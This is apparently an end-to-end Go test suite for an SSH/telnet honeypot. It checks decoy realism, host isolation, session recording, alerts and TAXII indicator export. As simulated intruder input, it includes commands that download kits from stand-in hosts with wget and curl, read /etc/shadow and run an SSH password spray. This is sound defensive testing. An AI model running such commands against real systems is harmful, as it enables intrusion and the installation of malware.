// Package honeypot drives the decoy with the clients that intruders use: OpenSSH's ssh, scp and sftp, and telnet.
package honeypot

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/bulkheadhq/bulkhead/e2e/harness"
)

// need skips where a client is not installed.
func need(t *testing.T, programs ...string) {
	t.Helper()
	for _, p := range programs {
		if _, err := exec.LookPath(p); err != nil {
			t.Skipf("%s is not installed: this is tested where it is", p)
		}
	}
}

// client runs one of OpenSSH's as cassandra, whose password is the default one.
func client(t *testing.T, stdin string, name string, args ...string) (string, error) {
	t.Helper()
	dir := t.TempDir()
	ask := filepath.Join(dir, "ask")
	if err := os.WriteFile(ask, []byte("#!/bin/sh\necho cassandra\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	options := []string{"-F", "none"}
	for _, o := range []string{"StrictHostKeyChecking=no", "UserKnownHostsFile=/dev/null", "PubkeyAuthentication=no", "LogLevel=ERROR", "ConnectTimeout=10"} {
		options = append(options, "-o", o)
	}
	c := exec.CommandContext(t.Context(), name, append(options, args...)...)
	c.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + dir, "SSH_ASKPASS=" + ask, "SSH_ASKPASS_REQUIRE=force", "DISPLAY=none", "LANG=C"}
	c.Stdin = strings.NewReader(stdin)
	out, err := c.CombinedOutput()
	return string(out), err
}

// decoy is `bulkhead honeypot`, by itself, under strace where that is there.
type decoy struct {
	data, host  string
	ssh, telnet string // ports
	trace       string // strace's log; "": there is none
	ready       int64  // its length when the decoy was ready
	stop        func()
}

func start(t *testing.T, more ...string) *decoy {
	t.Helper()
	bin, err := harness.Binary()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	d := &decoy{data: filepath.Join(dir, "data")}
	args := append([]string{bin, "honeypot", "--data", d.data, "--ssh", "127.0.0.1:0", "--telnet", "127.0.0.1:0"}, more...)
	if strace, err := exec.LookPath("strace"); err == nil && exec.Command(strace, "-f", "-o", "/dev/null", "true").Run() == nil {
		d.trace = filepath.Join(dir, "trace")
		args = append([]string{strace, "-f", "-qq", "-e", "trace=%file,%process", "-o", d.trace}, args...)
	}
	c := exec.Command(args[0], args[1:]...)
	c.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + dir}
	c.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	out, err := c.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	c.Stderr = os.Stderr
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	d.stop = sync.OnceFunc(func() {
		_ = syscall.Kill(-c.Process.Pid, syscall.SIGTERM) // strace and what it traces
		_ = c.Wait()
	})
	t.Cleanup(d.stop)
	line := make([]byte, 4096)
	n, err := out.Read(line)
	m := regexp.MustCompile(`^ready honeypot=ssh://127\.0\.0\.1:(\d+),telnet://127\.0\.0\.1:(\d+) as=(\S+) `).FindSubmatch(line[:n])
	if m == nil {
		t.Fatalf("not ready: %q, %v", line[:n], err)
	}
	d.ssh, d.telnet, d.host = string(m[1]), string(m[2]), string(m[3])
	if i, err := os.Stat(d.trace); err == nil {
		d.ready = i.Size()
	}
	return d
}

// TestClients: the real clients find a machine, bring files and take some along, and the host's files are not touched by any of it.
func TestClients(t *testing.T) {
	need(t, "ssh", "scp", "sftp")
	d := start(t)
	target := "cassandra@127.0.0.1"
	out, err := client(t, "", "ssh", "-p", d.ssh, target, "uname -n; id -un; cat /etc/passwd | head -n1; cat /etc/shadow; echo $((6*7)) > /tmp/n; cat /tmp/n; ls ~root/..")
	if err != nil {
		t.Errorf("ssh: %v", err)
	}
	for _, want := range []string{d.host + "\ncassandra\nroot:x:0:0:root:/root:/bin/bash\n", "cat: /etc/shadow: Permission denied\n", "\n42\n", "vmlinuz"} {
		if !strings.Contains(out, want) {
			t.Errorf("%q isn't in %q", want, out)
		}
	}
	kit := filepath.Join(t.TempDir(), "kit.sh")
	if err := os.WriteFile(kit, []byte("#!/bin/sh\necho ran as $(id -un)\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, way := range []string{"-s", "-O"} { // by sftp, and by the old protocol
		if out, err := client(t, "", "scp", way, "-p", "-P", d.ssh, kit, target+":/tmp/kit"+way); err != nil {
			t.Errorf("scp %s: %v %s", way, err, out)
		}
		back := filepath.Join(t.TempDir(), "back")
		if out, err := client(t, "", "scp", way, "-P", d.ssh, target+":/tmp/kit"+way, back); err != nil {
			t.Errorf("scp %s back: %v %s", way, err, out)
		}
		if b, _ := os.ReadFile(back); !bytes.HasPrefix(b, []byte("#!/bin/sh")) {
			t.Errorf("scp %s brought %q back", way, b)
		}
	}
	if out, err := client(t, "put "+kit+" /tmp/third\nmkdir /tmp/dir\nrename /tmp/third /tmp/dir/third\nls -l /tmp/dir\n", "sftp", "-P", d.ssh, target); err != nil || !strings.Contains(out, "third") {
		t.Errorf("sftp: %v %s", err, out)
	}
	if out, err := client(t, "cd /tmp\nchmod +x dir/third\n./dir/third\n./kit-O\nexit 3\n", "ssh", "-tt", "-p", d.ssh, target); err == nil || strings.Count(out, "ran as cassandra") != 2 || !strings.Contains(out, "cassandra@"+d.host+":/tmp$ ") {
		t.Errorf("ssh -tt: %v %s", err, out)
	}
	if out, err := client(t, "", "ssh", "-p", d.ssh, "root@127.0.0.1", "true"); err == nil { // its password is another
		t.Errorf("root got in: %s", out)
	}
	checkSessions(t, d)
	d.checkTrace(t)
}

func checkSessions(t *testing.T, d *decoy) {
	t.Helper()
	bin, _ := harness.Binary()
	out, err := exec.Command(bin, "honeypot", "sessions", "--json", "--data", d.data).Output()
	if err != nil {
		t.Fatal(err)
	}
	cast, files := "", 0
	for _, line := range bytes.Split(bytes.TrimSpace(out), []byte("\n")) {
		var s struct {
			Cast, Banner    string
			Files, Commands int
		}
		if err := json.Unmarshal(line, &s); err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(s.Banner, "SSH-2.0-OpenSSH") {
			t.Errorf("banner %q", s.Banner)
		}
		files += s.Files
		if s.Commands == 5 {
			cast = s.Cast
		}
	}
	uploads, _ := filepath.Glob(filepath.Join(d.data, "honeypot", "uploads", "*"))
	if files < 3 || len(uploads) < 1 {
		t.Errorf("%d files were recorded, %d kept", files, len(uploads))
	}
	replay, err := exec.Command(bin, "honeypot", "replay", "--fast", "--data", d.data, cast).CombinedOutput()
	if err != nil || !bytes.Contains(replay, []byte("./dir/third")) || !bytes.Contains(replay, []byte("ran as cassandra")) {
		t.Errorf("replay of %q: %v %s", cast, err, replay)
	}
}

var quoted = regexp.MustCompile(`"((?:[^"\\]|\\.)*)"`)

// checkTrace: from the ready line on, no file was opened, changed or even looked at outside of the decoy's folder, and no program was started.
func (d *decoy) checkTrace(t *testing.T) {
	t.Helper()
	if d.trace == "" {
		t.Log("strace is not installed, or may not trace: which files are touched was not looked at")
		return
	}
	d.stop()
	b, err := os.ReadFile(d.trace)
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, line := range strings.Split(string(b[d.ready:]), "\n") {
		if strings.Contains(line, "execve") || strings.Contains(line, "fork(") || strings.Contains(line, "clone") && !strings.Contains(line, "CLONE_THREAD") && strings.Contains(line, "flags=") {
			t.Errorf("a program was started: %s", line)
		}
		m := quoted.FindStringSubmatch(line)
		if m == nil {
			continue
		}
		if seen++; !strings.HasPrefix(m[1], d.data+"/") {
			t.Errorf("touched: %s", line)
		}
	}
	if seen < 5 {
		t.Errorf("only %d file calls were traced: the decoy writes more than that", seen)
	}
}

func TestTelnet(t *testing.T) {
	need(t, "telnet")
	d := start(t)
	c := exec.CommandContext(t.Context(), "telnet", "127.0.0.1", d.telnet)
	in, _ := c.StdinPipe()
	var out bytes.Buffer
	var mu sync.Mutex
	c.Stdout = writer(func(b []byte) { mu.Lock(); out.Write(b); mu.Unlock() })
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	for _, step := range [][2]string{{"login: ", "root\n"}, {"Password: ", "123456\n"}, {"~# ", "wget http://192.0.2.1/bins.sh; id -u\n"}, {"\n0", "exit\n"}} {
		for end := time.Now().Add(10 * time.Second); ; time.Sleep(20 * time.Millisecond) {
			mu.Lock()
			have := strings.Contains(out.String(), step[0])
			mu.Unlock()
			if have {
				break
			}
			if time.Now().After(end) {
				t.Fatalf("no %q in %q", step[0], out.String())
			}
		}
		if _, err := io.WriteString(in, step[1]); err != nil {
			t.Fatal(err)
		}
	}
	_ = c.Wait()
	if strings.Contains(out.String(), "123456") {
		t.Error("the password was shown")
	}
}

type writer func([]byte)

func (w writer) Write(b []byte) (int, error) {
	w(b)
	return len(b), nil
}

// TestBanners: what a scanner sees at first is what the distribution that is shown later would send, and no two installations are the same machine.
func TestBanners(t *testing.T) {
	need(t, "ssh")
	a, b := start(t), start(t)
	if a.host == b.host {
		t.Errorf("both are %s", a.host)
	}
	c, err := net.Dial("tcp", "127.0.0.1:"+a.ssh)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	line := make([]byte, 255)
	n, _ := c.Read(line)
	m := regexp.MustCompile(`^SSH-2\.0-OpenSSH_\d\.\dp\d (Ubuntu|Debian)-\S+\r\n$`).FindSubmatch(line[:n])
	if m == nil {
		t.Fatalf("banner %q", line[:n])
	}
	out, err := client(t, "", "ssh", "-p", a.ssh, "cassandra@127.0.0.1", "cat /etc/os-release")
	if err != nil || !strings.Contains(out, `NAME="`+string(m[1])) {
		t.Errorf("the banner says %s, the system %s %v", m[1], out, err)
	}
	for _, name := range []string{"root@svr04", "phil", "richard", "cowrie", "honeypot", "bulkhead"} {
		if strings.Contains(strings.ToLower(out+a.host+string(line[:n])), name) {
			t.Errorf("%q gives it away", name)
		}
	}
}

// TestPlatform: the intruder of the seed attacks the platform's honeypot from one of the platform's own machines. The machine gets an alert with what was typed, and what was typed
// becomes indicators, for the operator and over TAXII.
func TestPlatform(t *testing.T) {
	need(t, "ssh")
	p := harness.Start(t, harness.Options{Flags: []string{"--honeypot=127.0.0.1:0"}})
	u, err := url.Parse(p.Run.Honeypot)
	if err != nil || u.Scheme != "ssh" {
		t.Fatalf("honeypot %q, %v", p.Run.Honeypot, err)
	}
	group := p.PutGroup(t)
	enrol(t, p, filepath.Base(group), "web1")
	kit := "chmod +x 1 cyberinfo cybernetikrandom go h4e petarda port pscan2 screen speedtestvps.py sshd"
	spray := `./ssh2 1500 -b 10.49 pass 22 "uname -a & lscpu"`
	if out, err := client(t, kit+"\n"+spray+"\ncurl -O http://malware.example/kit.tgz\nexit 0\n", "ssh", "-tt", "-p", u.Port(), "cassandra@127.0.0.1"); err != nil {
		t.Fatalf("ssh: %v %s", err, out)
	}
	var found string
	for end := time.Now().Add(10 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		a := p.TryARM(t, http.MethodGet, group+"/providers/Microsoft.Security/alerts?api-version=2022-01-01", nil)
		if found = string(a.Body); strings.Contains(found, "BH_HoneypotAttacked") && strings.Contains(found, "pscan2") {
			break
		}
		if time.Now().After(end) {
			t.Fatalf("no alert with what was typed after 10 s: %d %s", a.Status, a.Body)
		}
	}
	for _, want := range []string{`"severity":"High"`, "/machines/web1", "got in as cassandra", "malware.example"} {
		if !strings.Contains(found, want) {
			t.Errorf("%q isn't in the alert %s", want, found)
		}
	}
	list := string(p.Output(t, "indicators", "list"))
	for _, want := range []string{"chmod +x # cyberinfo cybernetikrandom go h#e petarda port pscan# screen speedtestvps.py sshd", "ssh# # -b %net pass # uname -a & lscpu", "http://malware.example/kit.tgz", "cassandra:cassandra", "hassh"} {
		if !strings.Contains(list, want) {
			t.Errorf("%q isn't among the indicators\n%s", want, list)
		}
	}
	if strings.Contains(list, "127.0.0.1 ") {
		t.Error("our own machine's address became an indicator")
	}
	checkTAXII(t, p)
}

// enrol makes a machine and lets its agent speak once: the platform knows its address from that.
func enrol(t *testing.T, p *harness.Platform, group, name string) {
	t.Helper()
	dir := t.TempDir()
	log, audit := filepath.Join(dir, "auth.log"), filepath.Join(dir, "audit.log")
	for _, name := range []string{log, audit} {
		if err := os.WriteFile(name, nil, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	p.Output(t, "agent", "enrol", "--state", filepath.Join(dir, "state"), "--resource-group", group, "--name", name)
	bin, err := harness.Binary()
	if err != nil {
		t.Fatal(err)
	}
	agent := exec.Command(bin, "agent", "--state", filepath.Join(dir, "state"), "--auth-log", log, "--audit-log", audit)
	var said bytes.Buffer
	agent.Stdout, agent.Stderr = &said, &said
	if err := agent.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = agent.Process.Signal(os.Interrupt)
		_ = agent.Wait()
	}()
	id := fmt.Sprintf("/subscriptions/%s/resourceGroups/%s/providers/Microsoft.HybridCompute/machines/%s?api-version=2024-07-10", p.Run.SubscriptionID, group, name)
	for end := time.Now().Add(15 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		if a := p.TryARM(t, http.MethodGet, id, nil); strings.Contains(string(a.Body), `"Connected"`) {
			return
		} else if time.Now().After(end) {
			_ = agent.Process.Kill()
			t.Fatalf("the machine is not connected: %s\nthe agent said: %s", a.Body, &said)
		}
	}
}

// checkTAXII reads the indicators as a TAXII client does: discovery, root, collection, objects in pages.
func checkTAXII(t *testing.T, p *harness.Platform) {
	t.Helper()
	w := p.SuffixWay(t)
	header := harness.Bearer(p.AdminToken(t, harness.ARMResource))
	header.Set("Accept", "application/taxii+json;version=2.1")
	get := func(target string) map[string]any {
		t.Helper()
		a := w.Do(t, http.MethodGet, target, header, nil)
		if a.Status != http.StatusOK || a.Header.Get("Content-Type") != "application/taxii+json;version=2.1" {
			t.Fatalf("%s: %d %s %s", target, a.Status, a.Header.Get("Content-Type"), a.Body)
		}
		return a.JSON()
	}
	server := "https://taxii." + p.Run.Suffix + ":" + p.Port()
	root, _ := get(server + "/taxii2/")["default"].(string)
	get(root)
	all, _ := get(root + "collections/")["collections"].([]any)
	collection, _ := all[0].(map[string]any)
	objects := root + "collections/" + collection["id"].(string) + "/objects/?limit=2"
	count, next := 0, ""
	for page := 0; page < 50; page++ {
		e := get(objects + next)
		list, _ := e["objects"].([]any)
		count += len(list)
		if e["more"] != true {
			break
		}
		next = "&next=" + url.QueryEscape(e["next"].(string))
	}
	if count < 6 {
		t.Errorf("%d objects came over TAXII", count)
	}
	if a := w.Do(t, http.MethodGet, server+"/taxii2/", nil, nil); a.Status != http.StatusUnauthorized {
		t.Errorf("a stranger: %d %s", a.Status, a.Body)
	}
}
